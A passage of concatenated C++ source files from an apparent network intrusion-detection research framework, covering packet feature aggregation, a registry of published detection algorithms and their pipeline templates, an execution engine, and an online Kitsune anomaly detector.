        if (!func.empty()) out.push_back(AggSpec{field, func});
      }
    }
  }
  if (out.empty()) {
    out = {{"len", "mean"}, {"len", "std"},  {"iat", "mean"},
           {"iat", "std"},  {"", "count"},   {"", "bytes_rate"}};
  }
  return out;
}

namespace {

/// Collect the per-packet series for `field` over `idx`. "iat" is the
/// special contextual field (gaps between consecutive unit packets).
void field_series(const trace::Dataset& ds, const std::vector<uint32_t>& idx,
                  const std::string& field, std::vector<double>& out) {
  out.clear();
  if (field == "iat") {
    for (size_t i = 1; i < idx.size(); ++i) {
      out.push_back(ds.trace.view[idx[i]].ts - ds.trace.view[idx[i - 1]].ts);
    }
    return;
  }
  double v = 0.0;
  for (uint32_t p : idx) {
    if (packet_field(ds.trace.view[p], field, &v)) out.push_back(v);
  }
}

}  // namespace

double compute_agg(const trace::Dataset& ds, const std::vector<uint32_t>& idx,
                   const AggSpec& agg) {
  if (agg.func == "count") return static_cast<double>(idx.size());
  const double dur =
      idx.size() >= 2
          ? ds.trace.view[idx.back()].ts - ds.trace.view[idx.front()].ts
          : 0.0;
  if (agg.func == "rate") {
    return dur > 1e-9 ? static_cast<double>(idx.size()) / dur : 0.0;
  }
  if (agg.func == "duration") return dur;
  if (agg.func == "bytes_rate") {
    double bytes = 0.0;
    for (uint32_t p : idx) bytes += ds.trace.view[p].wire_len;
    return dur > 1e-9 ? bytes / dur : 0.0;
  }

  std::vector<double> series;
  field_series(ds, idx, agg.field.empty() ? "len" : agg.field, series);
  if (series.empty()) return 0.0;

  if (agg.func == "distinct") {
    std::set<double> uniq(series.begin(), series.end());
    return static_cast<double>(uniq.size());
  }
  if (agg.func == "entropy") {
    std::map<double, double> counts;
    for (double v : series) counts[v] += 1.0;
    std::vector<double> c;
    c.reserve(counts.size());
    for (auto& [k, n] : counts) c.push_back(n);
    return features::entropy_bits(c);
  }
  if (agg.func == "change_rate") {
    // Number of consecutive-value changes per second (e.g. TCP flag churn).
    size_t changes = 0;
    for (size_t i = 1; i < series.size(); ++i) {
      changes += series[i] != series[i - 1];
    }
    return dur > 1e-9 ? static_cast<double>(changes) / dur
                      : static_cast<double>(changes);
  }
  if (agg.func == "first") return series.front();
  if (agg.func == "last") return series.back();
  if (agg.func == "median") return features::median(series);
  if (agg.func == "sum") {
    double s = 0.0;
    for (double v : series) s += v;
    return s;
  }

  features::RunningStats rs;
  for (double v : series) rs.add(v);
  if (agg.func == "mean") return rs.mean();
  if (agg.func == "std") return rs.stddev();
  if (agg.func == "min") return rs.min();
  if (agg.func == "max") return rs.max();
  if (agg.func == "range") return rs.max() - rs.min();
  return 0.0;  // unknown func validated at parse time by callers
}

void fill_unit_metadata(const trace::Dataset& ds,
                        const std::vector<std::vector<uint32_t>>& units,
                        features::FeatureTable& t) {
  std::vector<uint32_t> capture_idx;
  for (size_t r = 0; r < units.size() && r < t.rows; ++r) {
    uint8_t attack = 0;
    // Unit members are view positions; the label arrays are aligned with
    // the original capture, so translate through PacketView::index.
    capture_idx.clear();
    capture_idx.reserve(units[r].size());
    for (uint32_t p : units[r]) capture_idx.push_back(ds.trace.view[p].index);
    t.labels[r] = flow::unit_label(capture_idx, ds.pkt_label, ds.pkt_attack,
                                   &attack);
    t.attack[r] = attack;
    t.unit_id[r] = static_cast<int64_t>(r);
    t.unit_time[r] =
        units[r].empty() ? 0.0 : ds.trace.view[units[r].front()].ts;
  }
}

features::FeatureTable table_from_units(
    const trace::Dataset& ds,
    const std::vector<std::vector<uint32_t>>& units,
    const std::vector<AggSpec>& aggs) {
  std::vector<std::string> names;
  names.reserve(aggs.size());
  for (const AggSpec& a : aggs) names.push_back(a.column_name());
  features::FeatureTable t = features::FeatureTable::make(units.size(), names);
  for (size_t r = 0; r < units.size(); ++r) {
    for (size_t c = 0; c < aggs.size(); ++c) {
      t.at(r, c) = compute_agg(ds, units[r], aggs[c]);
    }
  }
  fill_unit_metadata(ds, units, t);
  return t;
}

}  // namespace lumen::core
