#include "core/value.h"

namespace lumen::core {

const char* value_kind_name(ValueKind k) {
  switch (k) {
    case ValueKind::kPacketSet: return "PacketSet";
    case ValueKind::kGroupedPackets: return "GroupedPackets";
    case ValueKind::kFlowSet: return "FlowSet";
    case ValueKind::kConnSet: return "ConnSet";
    case ValueKind::kFeatureTable: return "FeatureTable";
    case ValueKind::kModel: return "Model";
    case ValueKind::kPredictions: return "Predictions";
    case ValueKind::kMetrics: return "Metrics";
    case ValueKind::kAny: return "Any";
  }
  return "?";
}

ValueKind kind_of(const Value& v) {
  return static_cast<ValueKind>(v.index());
}

size_t value_bytes(const Value& v) {
  struct Visitor {
    size_t operator()(const PacketSet& p) const {
      return p.idx.size() * sizeof(uint32_t);
    }
    size_t operator()(const GroupedPackets& g) const {
      size_t n = 0;
      for (const Group& gr : g.groups) {
        n += gr.key.size() + gr.idx.size() * sizeof(uint32_t);
      }
      return n;
    }
    size_t operator()(const FlowSet& f) const {
      size_t n = f.flows.size() * sizeof(flow::Flow);
      for (const auto& fl : f.flows) n += fl.pkts.size() * sizeof(uint32_t);
      return n;
    }
    size_t operator()(const ConnSet& c) const {
      size_t n = c.conns.size() * (sizeof(flow::Connection) +
                                   sizeof(flow::ConnRecord));
      for (const auto& cn : c.conns) {
        n += cn.pkts.size() * (sizeof(uint32_t) + 1);
      }
      return n;
    }
    size_t operator()(const features::FeatureTable& t) const {
      return t.byte_size();
    }
    size_t operator()(const ModelValue&) const { return 1024; }
    size_t operator()(const Predictions& p) const {
      return p.y_true.size() * (2 * sizeof(int) + sizeof(double) + 1);
    }
    size_t operator()(const Metrics& m) const {
      return m.values.size() * 32;
    }
  };
  return std::visit(Visitor{}, v);
}

}  // namespace lumen::core
