#include "core/algorithms.h"

#include "core/models.h"

namespace lumen::core {

namespace {

using trace::Granularity;

// ---- feature pipeline templates (the paper's Fig. 4 format) ----

constexpr const char* kTplMlDdos = R"(algorithm = [
  {"func": "Field Extract", "input": None, "output": "Packets",
   "param": ["srcIP", "dstIP", "packetLength", "proto"]},
  {"func": "packet_features", "input": ["Packets"], "output": "Stateless",
   "param": ["len", "iat", "is_tcp", "is_udp", "is_icmp", "dport"]},
  {"func": "window_stats", "input": ["Packets"], "output": "Stateful",
   "key": "srcip", "window": 10,
   "list": [{"field": "len", "funcs": ["mean", "std"]},
            {"func": "count"}, {"func": "bytes_rate"},
            {"field": "dstip", "funcs": ["distinct"]},
            {"field": "iat", "funcs": ["mean"]}]},
  {"func": "concat_features", "input": ["Stateless", "Stateful"],
   "output": "Features"},
])";

constexpr const char* kTplNprint1 = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "nprint", "input": ["Packets"], "output": "Features",
   "layers": ["ipv4", "tcp", "udp", "icmp"], "payload_bytes": 10},
])";

constexpr const char* kTplNprint2 = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "nprint", "input": ["Packets"], "output": "Features",
   "layers": ["tcp", "udp", "ipv4"]},
])";

constexpr const char* kTplNprint3 = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "nprint", "input": ["Packets"], "output": "Features",
   "layers": ["tcp", "udp", "ipv4"], "payload_bytes": 10},
])";

constexpr const char* kTplNprint4 = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "nprint", "input": ["Packets"], "output": "Features",
   "layers": ["tcp", "icmp", "ipv4"]},
])";

constexpr const char* kTplSmartHome = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "pdml_fields", "input": ["Packets"], "output": "Features"},
])";

constexpr const char* kTplKitsune = R"([
  {"func": "Field Extract", "input": None, "output": "Packets",
   "param": ["len", "ts", "srcip", "dstip", "sport", "dport"]},
  {"func": "damped_stats", "input": ["Packets"], "output": "Features",
   "lambdas": [5, 3, 1, 0.1, 0.01]},
])";

constexpr const char* kTplFirstK = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "first_k_packets", "input": ["Conns"], "output": "Features",
   "k": 16, "what": ["len", "iat"]},
])";

constexpr const char* kTplSmartDet = R"([
  {"func": "Field Extract", "input": None, "output": "Packets",
   "param": ["srcIP", "dstIP", "TCPFlags", "packetLength"]},
  {"func": "uniflows", "input": ["Packets"], "output": "Flows"},
  {"func": "flow_features", "input": ["Flows"], "output": "Features",
   "list": [{"field": "tcpflags", "funcs": ["change_rate", "entropy"]},
            {"field": "sport", "funcs": ["entropy"]},
            {"field": "ip_len", "funcs": ["std", "mean"]},
            {"field": "len", "funcs": ["mean", "std"]},
            {"field": "iat", "funcs": ["mean", "std"]},
            {"func": "count"}, {"func": "rate"}, {"func": "bytes_rate"},
            {"field": "dport", "funcs": ["distinct"]}]},
])";

constexpr const char* kTplNokia = R"([
  {"func": "Field Extract", "input": None, "output": "Packets",
   "param": ["srcIP", "dstIP", "packetLength"]},
  {"func": "Groupby", "input": ["Packets"], "output": "Pairs",
   "flowid": ["srcdst"]},
  {"func": "TimeSlice", "input": ["Pairs"], "output": "Sliced", "window": 30},
  {"func": "ApplyAggregates", "input": ["Sliced"], "output": "Features",
   "list": [{"field": "len", "funcs": ["mean", "std", "sum"]},
            {"field": "iat", "funcs": ["mean", "std"]},
            {"func": "count"}, {"func": "bytes_rate"},
            {"field": "dport", "funcs": ["distinct", "entropy"]}]},
])";

constexpr const char* kTplEarly = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "uniflows", "input": ["Packets"], "output": "Flows"},
  {"func": "first_k_packets", "input": ["Flows"], "output": "Features",
   "k": 8, "what": ["len", "iat"]},
])";

constexpr const char* kTplBayes = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "conn_features", "input": ["Conns"], "output": "Features",
   "set": ["bayes"]},
])";

constexpr const char* kTplZeek = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "conn_features", "input": ["Conns"], "output": "Features",
   "set": ["zeek"]},
])";

constexpr const char* kTplIiot = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "conn_features", "input": ["Conns"], "output": "Features",
   "set": ["iiot"]},
])";

// AM01/AM02: Lumen-synthesized — union feature sets plus the classic
// train-setup improvements (normalization, decorrelation) the paper's
// greedy search rediscovers.
constexpr const char* kTplUnion2 = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "conn_features", "input": ["Conns"], "output": "Features",
   "set": ["zeek", "bayes"]},
])";

constexpr const char* kTplUnion3 = R"([
  {"func": "Field Extract", "input": None, "output": "Packets", "param": []},
  {"func": "connections", "input": ["Packets"], "output": "Conns"},
  {"func": "conn_features", "input": ["Conns"], "output": "Features",
   "set": ["zeek", "bayes", "iiot"]},
])";

std::vector<AlgorithmDef> build_registry() {
  std::vector<AlgorithmDef> algos;
  auto add = [&](std::string id, std::string label, std::string paper,
                 Granularity g, bool needs_ip, bool needs_app,
                 const char* tpl, std::string model) {
    algos.push_back(AlgorithmDef{std::move(id), std::move(label),
                                 std::move(paper), g, needs_ip, needs_app, tpl,
                                 std::move(model)});
  };

  add("A00", "ML DDoS", "Doshi et al., SPW'18", Granularity::kPacket, true,
      false, kTplMlDdos,
      R"({"model_type": "Ensemble",
          "members": ["RandomForest", "LinearSVM", "DecisionTree", "KNN"]})");
  add("A01", "nprint1: all", "Holland et al., CCS'21", Granularity::kPacket,
      true, false, kTplNprint1, R"({"model_type": "AutoML"})");
  add("A02", "nprint2: tcp+udp+ipv4", "Holland et al., CCS'21",
      Granularity::kPacket, true, false, kTplNprint2,
      R"({"model_type": "AutoML"})");
  add("A03", "nprint3: tcp+udp+ipv4+payload", "Holland et al., CCS'21",
      Granularity::kPacket, true, false, kTplNprint3,
      R"({"model_type": "AutoML"})");
  add("A04", "nprint4: tcp+icmp+ipv4", "Holland et al., CCS'21",
      Granularity::kPacket, true, false, kTplNprint4,
      R"({"model_type": "AutoML"})");
  add("A05", "IDS smart home", "Anthi et al., IoT-J'19", Granularity::kPacket,
      true, true, kTplSmartHome, R"({"model_type": "RandomForest"})");
  add("A06", "Kitsune", "Mirsky et al., NDSS'18", Granularity::kPacket, false,
      false, kTplKitsune, R"({"model_type": "KitNET"})");
  add("A07", "OCSVM", "Yang et al., arXiv'21", Granularity::kConnection, true,
      false, kTplFirstK, R"({"model_type": "OCSVM", "nu": 0.05})");
  add("A08", "Nystrom+GMM", "Yang et al., arXiv'21", Granularity::kConnection,
      true, false, kTplFirstK, R"({"model_type": "NystromGMM"})");
  add("A09", "Nystrom+OCSVM", "Yang et al., arXiv'21",
      Granularity::kConnection, true, false, kTplFirstK,
      R"({"model_type": "NystromOCSVM"})");
  add("A10", "smartdet", "de Lima Filho et al., SCN'19", Granularity::kUniFlow,
      true, false, kTplSmartDet, R"({"model_type": "RandomForest"})");
  add("A11", "nokia", "Bhatia et al., CoNEXT-W'19", Granularity::kUniFlow,
      true, false, kTplNokia,
      R"({"model_type": "AutoEncoder", "normalize": true,
          "epochs": 8, "quantile": 0.9})");
  add("A12", "early detection", "Hwang et al., IEEE Access'20",
      Granularity::kUniFlow, true, false, kTplEarly,
      R"({"model_type": "AutoEncoder", "normalize": true,
          "epochs": 8, "quantile": 0.9})");
  add("A13", "Bayesian", "Moore & Zuev, SIGMETRICS'05",
      Granularity::kConnection, true, false, kTplBayes,
      R"({"model_type": "GaussianNB"})");
  add("A14", "Zeek", "Austin, WVU'21", Granularity::kConnection, true, false,
      kTplZeek, R"({"model_type": "RandomForest"})");
  add("A15", "IIoT", "Zolanvari et al., IoT-J'19", Granularity::kConnection,
      true, false, kTplIiot, R"({"model_type": "RandomForest"})");

  // Lumen-synthesized variants (§5.4): module recombination + training
  // setup improvements discovered by the greedy search.
  add("AM01", "Zeek+Bayes features, RF", "Lumen-synthesized",
      Granularity::kConnection, true, false, kTplUnion2,
      R"({"model_type": "RandomForest", "n_trees": 30,
          "normalize": true, "decorrelate": true})");
  add("AM02", "Union features, AutoML", "Lumen-synthesized",
      Granularity::kConnection, true, false, kTplUnion3,
      R"({"model_type": "AutoML", "normalize": true})");
  add("AM03", "Union features, RF (merged training)", "Lumen-synthesized",
      Granularity::kConnection, true, false, kTplUnion3,
      R"({"model_type": "RandomForest", "n_trees": 30, "normalize": true})");
  return algos;
}

}  // namespace

const std::vector<AlgorithmDef>& algorithm_registry() {
  static const std::vector<AlgorithmDef> kAlgos = build_registry();
  return kAlgos;
}

const AlgorithmDef* find_algorithm(const std::string& id) {
  for (const AlgorithmDef& a : algorithm_registry()) {
    if (a.id == id) return &a;
  }
  return nullptr;
}

std::vector<std::string> surveyed_algorithm_ids() {
  std::vector<std::string> out;
  for (const AlgorithmDef& a : algorithm_registry()) {
    if (a.id.rfind("AM", 0) != 0) out.push_back(a.id);
  }
  return out;
}

std::vector<std::string> synthesized_algorithm_ids() {
  std::vector<std::string> out;
  for (const AlgorithmDef& a : algorithm_registry()) {
    if (a.id.rfind("AM", 0) == 0) out.push_back(a.id);
  }
  return out;
}

bool compatible(const AlgorithmDef& algo, const trace::Dataset& ds) {
  if (algo.needs_ip && ds.is_dot11()) return false;
  if (algo.needs_app_metadata && !ds.has_app_metadata) return false;
  // Fine-to-coarse is faithful: the dataset's labels propagate down to the
  // algorithm's (finer or equal) units.
  return static_cast<int>(algo.granularity) <=
         static_cast<int>(ds.label_granularity);
}

bool strict_faithful(const AlgorithmDef& algo, const trace::Dataset& ds) {
  if (!compatible(algo, ds)) return false;
  const bool algo_packet = algo.granularity == trace::Granularity::kPacket;
  const bool ds_packet = ds.label_granularity == trace::Granularity::kPacket;
  return algo_packet == ds_packet;
}

Result<features::FeatureTable> compute_features(const AlgorithmDef& algo,
                                                const trace::Dataset& ds) {
  Result<PipelineSpec> spec = PipelineSpec::parse(algo.feature_template);
  if (!spec.ok()) return spec.error();
  OpContext ctx;
  ctx.dataset = &ds;
  ctx.rng.reseed(Rng::seed_from(algo.id + ":" + ds.id));
  Engine engine;
  Result<PipelineReport> report = engine.run(spec.value(), ctx);
  if (!report.ok()) return report.error();
  const features::FeatureTable* t =
      report.value().get<features::FeatureTable>("Features");
  if (t == nullptr) {
    return Error::make("algorithm",
                       algo.id + ": pipeline produced no 'Features' table");
  }
  return *t;
}

Result<ModelValue> make_algorithm_model(const AlgorithmDef& algo) {
  Result<Json> params = Json::parse(algo.model_spec);
  if (!params.ok()) return params.error();
  return make_model(params.value());
}

}  // namespace lumen::core
