// PipelineSpec: a parsed algorithm template (the paper's Fig. 4 format).
//
// A template is a JSON-ish array of operation objects:
//   [
//     {"func": "Field Extract", "input": None, "output": "Packets",
//      "param": ["srcIP", "dstIP", "TCPFlags", "packetLength"]},
//     {"func": "Groupby", "input": ["Packets"], "output": "Grouped",
//      "flowid": ["srcIp"]},
//     ...
//   ]
// Friendly func aliases from the paper ("Field Extract", "Groupby",
// "TimeSlice", "ApplyAggregates") map onto the canonical operation names.
#pragma once

#include "core/op.h"

namespace lumen::core {

struct PipelineSpec {
  std::vector<OpSpec> ops;

  /// Parse a template. Accepts an optional leading "algorithm =".
  static Result<PipelineSpec> parse(std::string_view text);

  /// Build a spec programmatically from parsed JSON entries.
  static Result<PipelineSpec> from_json(const Json& array);
};

/// Canonicalize a func name ("Field Extract" -> "field_extract", ...).
std::string canonical_func_name(const std::string& name);

}  // namespace lumen::core
