// The execution engine (§3.2): verifies a pipeline's wiring and types before
// running it, executes operations in order, profiles per-operation wall time
// and output memory, and frees intermediates once no later operation uses
// them (the paper's "basic memory optimizations").
#pragma once

#include <map>

#include "core/pipeline.h"

namespace lumen::core {

/// One row of the engine's time/memory profile.
struct OpProfile {
  std::string func;
  std::string output;
  double seconds = 0.0;
  size_t output_bytes = 0;
  bool freed_early = false;  // dropped by dead-value elimination
};

struct PipelineReport {
  /// Bindings still alive at the end of the run (pipeline results).
  std::map<std::string, Value> bindings;
  std::vector<OpProfile> profile;
  size_t peak_bytes = 0;

  const Value* find(const std::string& name) const {
    auto it = bindings.find(name);
    return it == bindings.end() ? nullptr : &it->second;
  }

  /// Typed result accessor; nullptr when missing or of another kind.
  template <typename T>
  const T* get(const std::string& name) const {
    const Value* v = find(name);
    return v == nullptr ? nullptr : std::get_if<T>(v);
  }

  /// Render the profile as an aligned text table (the engine's "plots").
  std::string profile_table() const;
};

class Engine {
 public:
  struct Options {
    bool free_dead_values = true;
    /// Bindings to keep alive even if consumed (besides never-consumed ones).
    std::vector<std::string> keep;
  };

  Engine() : Engine(Options{}) {}
  explicit Engine(Options opts) : opts_(std::move(opts)) {}

  /// Static analysis only: unknown ops, undefined inputs, kind mismatches.
  Result<void> type_check(const PipelineSpec& spec) const;

  /// Type-check then execute against the dataset in `ctx`.
  Result<PipelineReport> run(const PipelineSpec& spec, OpContext& ctx) const;

 private:
  Options opts_;
};

}  // namespace lumen::core
