// The execution engine (§3.2): verifies a pipeline's wiring and types before
// running it, executes operations in order, profiles per-operation wall time
// and output memory, and frees intermediates once no later operation uses
// them (the paper's "basic memory optimizations").
#pragma once

#include <map>

#include "common/telemetry.h"
#include "core/pipeline.h"

namespace lumen::core {

/// One row of the engine's time/memory profile.
///
/// DEPRECATION NOTE: OpProfile/profile_table() are now compatibility views
/// over the unified telemetry API (common/telemetry.h). Engine::run records
/// one telemetry::Span per operation (name `<prefix>op.<func>`, detail = the
/// output binding, value = output bytes, flag = freed-early) into
/// Options::registry and rebuilds this struct from the registry snapshot, so
/// the numbers here and in the registry are the same by construction. New
/// consumers should scrape the registry instead of this struct.
struct OpProfile {
  std::string func;
  std::string output;
  double seconds = 0.0;
  size_t output_bytes = 0;
  bool freed_early = false;  // dropped by dead-value elimination
};

/// Rebuild per-op profile rows from the telemetry spans a run recorded
/// (`span_ids` in execution order, names prefixed with `op_prefix`). This is
/// the only constructor of OpProfile rows the engine uses.
std::vector<OpProfile> profile_from_spans(const telemetry::Snapshot& snap,
                                          const std::vector<uint64_t>& span_ids,
                                          std::string_view op_prefix);

/// Render profile rows as an aligned text table plus the peak-resident
/// footer. This is the one renderer: PipelineReport::profile_table() is a
/// façade over it, and telemetry-first consumers call it directly on rows
/// they rebuilt with profile_from_spans — no PipelineReport needed.
std::string render_op_profile(const std::vector<OpProfile>& profile,
                              size_t peak_bytes);

struct PipelineReport {
  /// Bindings still alive at the end of the run (pipeline results).
  std::map<std::string, Value> bindings;
  std::vector<OpProfile> profile;
  size_t peak_bytes = 0;
  /// Span ids (execution order) of this run's per-op telemetry spans — the
  /// keys for re-deriving `profile` from a registry snapshot.
  std::vector<uint64_t> span_ids;

  const Value* find(const std::string& name) const {
    auto it = bindings.find(name);
    return it == bindings.end() ? nullptr : &it->second;
  }

  /// Typed result accessor; nullptr when missing or of another kind.
  template <typename T>
  const T* get(const std::string& name) const {
    const Value* v = find(name);
    return v == nullptr ? nullptr : std::get_if<T>(v);
  }

  /// Render the profile as an aligned text table (the engine's "plots").
  std::string profile_table() const;
};

class Engine {
 public:
  struct Options {
    bool free_dead_values = true;
    /// Bindings to keep alive even if consumed (besides never-consumed ones).
    std::vector<std::string> keep;
    /// Where per-op spans and byte gauges land. Default: the process-wide
    /// registry, so any embedder can scrape engine activity. nullptr keeps
    /// the run's telemetry in a run-local registry (nothing published) —
    /// the report/profile_table still work. Same shape as
    /// IngestRuntime::Options.
    telemetry::Registry* registry = &telemetry::Registry::process();
    /// Prepended to every instrument and span name this engine records.
    std::string instrument_prefix = "engine.";

    /// Returns a copy with out-of-range fields adjusted: duplicate `keep`
    /// names deduplicated (keeping first occurrence) and an empty
    /// instrument_prefix reset to "engine.". When anything moved and
    /// `diagnostic` is non-null, it receives one line naming every
    /// adjustment (same contract as IngestRuntime::Options::normalized).
    static Options normalized(Options opts, std::string* diagnostic);
  };

  Engine() : Engine(Options{}) {}
  explicit Engine(Options opts)
      : opts_(Options::normalized(std::move(opts), nullptr)) {}

  /// Static analysis only: unknown ops, undefined inputs, kind mismatches.
  /// `seed` optionally pre-populates the binding environment (name -> value
  /// kind is derived from the values) — how a deploy spec consumes a model
  /// trained by an earlier run; compile_streaming checks specs the same way
  /// with StreamingOptions::bindings.
  Result<void> type_check(const PipelineSpec& spec,
                          const std::map<std::string, Value>* seed =
                              nullptr) const;

  /// Type-check then execute against the dataset in `ctx`. Seeded bindings
  /// (copied in before the first op) behave like outputs of an op #-1: any
  /// op may consume them, dead-value elimination may free them.
  Result<PipelineReport> run(const PipelineSpec& spec, OpContext& ctx,
                             const std::map<std::string, Value>* seed =
                                 nullptr) const;

 private:
  Options opts_;
};

}  // namespace lumen::core
