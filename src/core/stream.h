// Online anomaly detection: the gateway-side runtime. Kitsune is an online
// system — it trains and detects packet by packet. OnlineKitsune wires the
// streaming feature extractor to an incrementally-trained KitNET:
//
//   OnlineKitsune det(train_packets);           // grace period
//   for each live packet p: if (det.process(p)) alert();
//
// The detector never sees the future: statistics, the feature map, the
// autoencoders, and the threshold all come from the stream prefix.
#pragma once

#include "core/kitsune_extractor.h"
#include "ml/compiled.h"
#include "ml/kitnet.h"

namespace lumen::core {

class OnlineKitsune {
 public:
  struct Options {
    std::vector<double> lambdas;     // empty = Kitsune defaults
    ml::KitNet::Config kitnet;       // ensemble configuration
    double threshold_quantile = 0.97;
    size_t max_contexts = 0;  // extractor context-eviction cap (0 = off)
  };

  OnlineKitsune() : OnlineKitsune(Options{}) {}
  explicit OnlineKitsune(Options opts);

  /// Feed the (benign) training prefix, in capture order. Trains the
  /// feature map, the autoencoder ensemble, and calibrates the threshold.
  void train(std::span<const netio::PacketView> packets);

  bool trained() const { return trained_; }
  double threshold() const { return threshold_; }

  /// Process one live packet: updates the streaming statistics, scores the
  /// packet, and returns its anomaly score (RMSE of the output AE). Scores
  /// through the same fused path as score_packets (a one-row block), so
  /// single-packet and micro-batched scoring are bit-identical.
  double score_packet(const netio::PacketView& v);

  /// Micro-batched hot path: extract each packet in capture order (the
  /// streaming statistics update sequentially, exactly as score_packet
  /// would), stage the feature rows into one contiguous block, and score
  /// it with a single fused KitNet::score_rows call. out must hold
  /// packets.size() scores. Guarantee: splitting the same packet sequence
  /// into different batch sizes yields bit-identical scores (the
  /// score_rows / PackedDense contract), so alert sets do not depend on
  /// how the consumer chops the stream. score_packet rides the same fused
  /// kernel as a one-row block, so it agrees bitwise too (resolved: this
  /// used to go through per-row gemv math that could differ by ulps —
  /// pinned by stream_test's single-vs-micro-batch case).
  void score_packets(std::span<const netio::PacketView> packets, double* out);

  /// Convenience: score and compare against the calibrated threshold.
  bool process(const netio::PacketView& v) {
    return score_packet(v) > threshold_;
  }

  const KitsuneExtractor& extractor() const { return extractor_; }

  /// The trained detector (for benches that want to time the model alone).
  const ml::KitNet& detector() const { return detector_; }

  /// Lower the trained detector into a compiled scoring plan
  /// (ml/compiled.h) and route score_packet / score_packets through it.
  /// Opt-in: without this call scoring stays on the reference fused path.
  /// kF64 plans are bit-identical to the reference; kF32/kI8 trade bounded
  /// score divergence for speed (see docs/framework.md). The plan is
  /// immutable and shared by copies of this detector, so compiling once
  /// before cloning per-consumer detectors compiles for all of them.
  Result<void> compile(
      ml::compiled::Precision precision = ml::compiled::Precision::kF64);

  /// The active compiled plan (null when scoring the reference path).
  const ml::compiled::PlanPtr& compiled_plan() const { return plan_; }

 private:
  Options opts_;
  KitsuneExtractor extractor_;
  ml::KitNet detector_;
  double threshold_ = 0.0;
  bool trained_ = false;
  std::vector<double> row_;
  std::vector<double> rows_block_;  // staged m x dim block for score_packets
  ml::KitNet::RowsScratch rows_scratch_;
  ml::compiled::PlanPtr plan_;          // null = reference scoring path
  ml::compiled::Scratch plan_scratch_;  // per-instance (copies get their own)
};

}  // namespace lumen::core
