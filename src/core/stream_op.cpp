#include "core/stream_op.h"

#include <algorithm>
#include <map>
#include <set>

#include "common/flat_map.h"
#include "core/engine.h"
#include "core/kitsune_extractor.h"
#include "core/ops_common.h"
#include "features/stats.h"
#include "features/transform.h"
#include "ml/compiled.h"
#include "ml/kitnet.h"

namespace lumen::core {

namespace stream_detail {

using features::FeatureTable;
using netio::PacketView;

// ---- packet-phase operators ----------------------------------------------

/// "field_extract": the chain's source marker. Field validation happened at
/// compile time; at runtime it only forwards (kept as a chain node so the
/// lowered op list mirrors the spec and benches can measure prefixes).
class SourceOp final : public StreamOp {
 public:
  const char* name() const override { return "field_extract"; }
};

/// "filter": drop packets failing any `require` field (same semantics as
/// the batch op — a requirement holds when the field exists and is != 0).
class FilterOp final : public StreamOp {
 public:
  explicit FilterOp(std::vector<std::string> require)
      : require_(std::move(require)) {}
  const char* name() const override { return "filter"; }

  void push(PacketTuple& t) override {
    for (const std::string& req : require_) {
      double val = 0.0;
      if (!packet_field(*t.view, req, &val) || val == 0.0) return;
    }
    forward(t);
  }

 private:
  std::vector<std::string> require_;
};

/// "groupby": assign each packet a dense group id via a packed numeric key
/// (one FlatMap probe per packet, no string building on the hot path). The
/// printable key — what the batch op and the emitted rows use — is computed
/// once, on first sight of a group. Ids are issued in first-occurrence
/// order, which is exactly the batch op's group order over the same slice.
class GroupByOp final : public StreamOp {
 public:
  GroupByOp(std::function<Key128(const PacketView&)> packed,
            std::function<std::string(const PacketView&)> printable)
      : packed_(std::move(packed)), printable_(std::move(printable)) {
    ids_.reserve(64);
  }
  const char* name() const override { return "groupby"; }

  void push(PacketTuple& t) override {
    auto [slot, fresh] = ids_.try_emplace(packed_(*t.view), 0);
    if (fresh) {
      *slot = static_cast<uint32_t>(keys_.size());
      keys_.push_back(printable_(*t.view));
    }
    t.group = *slot;
    forward(t);
  }

  void reset() override {
    ids_.clear();
    keys_.clear();
    ids_.reserve(64);
  }

  /// Printable key of a group id (valid for ids issued this stream).
  const std::string& key_of(uint32_t gid) const { return keys_[gid]; }

  size_t group_count() const { return keys_.size(); }

 private:
  std::function<Key128(const PacketView&)> packed_;
  std::function<std::string(const PacketView&)> printable_;
  FlatMap<Key128, uint32_t> ids_;
  std::vector<std::string> keys_;  // gid -> printable key
};

/// "time_slice" (align="global"): tumbling windows on the capture clock,
/// with one time origin shared by all groups — the first pushed packet's
/// timestamp, which is what the batch op's global alignment uses. When a
/// packet crosses into a later window, every downstream accumulator is
/// flushed for the completed epoch before the packet is forwarded. Packets
/// whose timestamp falls behind the current window (possible under capture
/// reordering) are clamped into it and counted as late — the streaming
/// path assumes in-order capture time; the batch engine would place them
/// in their true earlier window.
class TimeSliceOp final : public StreamOp {
 public:
  TimeSliceOp(double window, StreamPipeline::Counters* counts)
      : window_(window), counts_(counts) {}
  const char* name() const override { return "time_slice"; }

  void push(PacketTuple& t) override {
    const double ts = t.view->ts;
    if (!started_) {
      started_ = true;
      t0_ = ts;
      cur_w_ = 0;
    }
    int64_t w = static_cast<int64_t>((ts - t0_) / window_);
    if (w > static_cast<int64_t>(cur_w_)) {
      forward_flush(cur_w_);
      cur_w_ = static_cast<uint64_t>(w);
    } else if (w < static_cast<int64_t>(cur_w_)) {
      ++counts_->late;
      w = static_cast<int64_t>(cur_w_);
    }
    t.window = static_cast<uint64_t>(w);
    t.window_start = t0_ + static_cast<double>(w) * window_;
    forward(t);
  }

  void reset() override {
    started_ = false;
    t0_ = 0.0;
    cur_w_ = 0;
  }

 private:
  const double window_;
  StreamPipeline::Counters* counts_;
  bool started_ = false;
  double t0_ = 0.0;
  uint64_t cur_w_ = 0;
};

// ---- aggregation ---------------------------------------------------------

/// Incremental state for one (unit, field) pair, feeding every aggregate
/// func that reads a per-packet series. The update order is the unit's
